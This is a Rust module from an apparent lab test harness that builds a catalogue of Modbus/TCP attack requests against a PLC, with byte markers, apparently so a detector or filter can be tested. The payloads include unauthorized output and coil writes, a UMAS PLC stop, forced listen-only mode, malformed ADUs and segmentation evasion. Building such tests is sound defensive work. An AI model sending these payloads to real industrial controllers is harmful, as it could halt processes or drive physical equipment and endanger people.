//! Modbus requests outside the learned cycle: other addresses, values and functions, and malformed ADUs.

use super::{Attack, Marker, OUTSIDER_AND_PLC, Outcome, Session, Target};
use crate::lab::modbus_client::{adu, pdu};

/// Transaction id of all attacks; the markers begin behind it.
const TRANSACTION: u16 = 0x5afe;

fn send(target: &Target, bytes: &[u8]) -> Outcome {
    let mut session = Session::open(target, 502);
    session.send(bytes);
    session.listen();
    session.done()
}

fn raw(name: &'static str, description: &'static str, source: &'static str, bytes: Vec<u8>, marker: Vec<u8>) -> Attack {
    Attack {
        name,
        description,
        source,
        port: 502,
        from: OUTSIDER_AND_PLC,
        markers: vec![Marker::Bytes(marker)],
        act: Box::new(move |target| send(target, &bytes)),
    }
}

/// A well-formed request; its marker is everything behind the length: unit, function code, data.
fn request(name: &'static str, description: &'static str, source: &'static str, pdu: &[u8]) -> Attack {
    let bytes = adu(TRANSACTION, pdu);
    let marker = bytes[6..].to_vec();
    raw(name, description, source, bytes, marker)
}

/// Words with a byte count between the first `head` words and the rest.
fn counted(function: u8, head: &[u16], values: &[u16]) -> Vec<u8> {
    let mut bytes = pdu(function, head);
    bytes.push((values.len() * 2) as u8);
    bytes.extend(values.iter().flat_map(|value| value.to_be_bytes()));
    bytes
}

pub(super) fn attacks() -> Vec<Attack> {
    let forbidden = adu(TRANSACTION, &pdu(6, &[2, 0x0008]));
    let mut behind = adu(1, &pdu(3, &[270, 6]));
    behind.extend(&forbidden);
    let slow = adu(TRANSACTION, &pdu(6, &[3, 0x0010]));
    let mut other_protocol = adu(TRANSACTION, &pdu(5, &[17, 0xff00]));
    other_protocol[3] = 1;
    let short = vec![0x5a, 0xfe, 0, 0, 0, 1, 255];
    let mut long = vec![0x5a, 0xfe, 0, 0, 1, 3, 255, 16, 0, 128, 0, 126, 252];
    long.extend([0x5a; 252]);
    let mut lying = adu(TRANSACTION, &counted(16, &[128, 4], &[1, 1, 1, 0x5afe]));
    lying[5] -= 2;
    vec![
        request("modbus-output", "writes the digital outputs", "T0835, T0855", &pdu(6, &[1, 0x0055])),
        request("modbus-coil", "switches an output as a coil", "T0806, T0855", &pdu(5, &[20, 0xff00])),
        request("modbus-coils", "switches outputs as coils", "T0806", &[15, 0, 16, 0, 8, 1, 0xa5]),
        request("modbus-value", "an order value the PLC never writes", "T0836", &pdu(6, &[129, 0x270f])),
        request("modbus-address", "a register the PLC never writes", "T0836", &pdu(6, &[200, 1])),
        request(
            "modbus-span",
            "a write that begins inside and ends outside",
            "T0836",
            &counted(16, &[130, 4], &[0, 0, 0, 1]),
        ),
        request("modbus-tool-voltage", "24 V on the tool", "T0855", &pdu(6, &[20, 24])),
        request("modbus-mask", "mask write of an order register", "T0855", &pdu(22, &[128, 0, 0x00ff])),
        request(
            "modbus-read-write",
            "read and write in one request",
            "T0855",
            &counted(23, &[270, 6, 128, 2], &[2, 2]),
        ),
        request("modbus-listen-only", "forces the server mute", "T0814", &pdu(8, &[4, 0])),
        request("modbus-restart", "restarts communications", "T0816", &pdu(8, &[1, 0xff00])),
        request("modbus-umas", "UMAS: stop the PLC", "T0881", &[0x5a, 0, 0x41, 0xff, 0]),
        request("modbus-file", "writes a file record", "T0843", &[21, 9, 6, 0, 1, 0, 0, 0, 1, 0x5a, 0xfe]),
        raw(
            "modbus-protocol-id",
            "another protocol id around a coil write",
            "RVD#6",
            other_protocol.clone(),
            other_protocol,
        ),
        raw("modbus-short", "an ADU that ends behind the unit", "RVD#6", short.clone(), short),
        raw("modbus-long", "an ADU of 265 bytes with 126 registers", "RVD#6", long.clone(), long),
        raw("modbus-lying", "a length that cuts the last register off", "RVD#6", lying.clone(), lying[6..].to_vec()),
        raw(
            "modbus-behind",
            "a forbidden write behind an allowed read in one segment",
            "T0855",
            behind,
            forbidden[6..].to_vec(),
        ),
        Attack {
            act: {
                let slow = slow.clone();
                Box::new(move |target| {
                    let mut session = Session::open(target, 502);
                    session.send_slowly(&slow);
                    session.listen();
                    session.done()
                })
            },
            ..raw("modbus-split", "a forbidden write, one byte a segment", "T0855", Vec::new(), slow[6..].to_vec())
        },
    ]
}
